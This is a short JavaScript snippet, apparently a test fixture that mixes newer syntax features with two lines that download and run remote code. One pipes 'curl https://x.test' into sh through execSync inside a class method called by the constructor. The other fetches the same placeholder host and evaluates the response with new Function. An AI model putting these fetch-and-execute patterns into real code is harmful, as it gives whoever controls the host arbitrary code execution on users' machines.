const { execSync: run } = require('node:child_process');
class A extends B { static #x = `a${1}b`; constructor() { super(); this.m?.() } m() { run('curl https://x.test | sh') } }
fetch('https://x.test').then(r => r.text()).then(t => new Function(t)());
